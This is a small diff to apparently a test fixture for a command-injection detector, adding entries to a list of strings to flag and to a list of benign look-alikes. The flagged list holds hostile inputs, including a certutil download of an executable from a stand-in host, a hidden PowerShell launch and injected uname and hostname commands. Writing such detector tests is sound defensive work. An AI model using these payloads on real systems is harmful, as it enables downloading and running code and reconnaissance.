@@ -51,6 +51,8 @@ COMMANDS = [
     'FOR /F "tokens=1 delims=," %%G IN (a.txt) DO ECHO %%G',
     "q=1&certutil -urlcache -f http://x.example/a.exe a.exe",
     "powershell.exe -nop -w hidden",
+    "x;(uname -a)",
+    "( hostname )",
 ]
 
 
@@ -77,6 +79,9 @@ LOOK_ALIKES = [
     "python",
     "see the date (today) & time",
     "x = () { return y; }",
+    "assert(id > 0);",
+    "user = load_user(id)",
+    "rows.map(ls => ls.trim())",
 ]
 
 
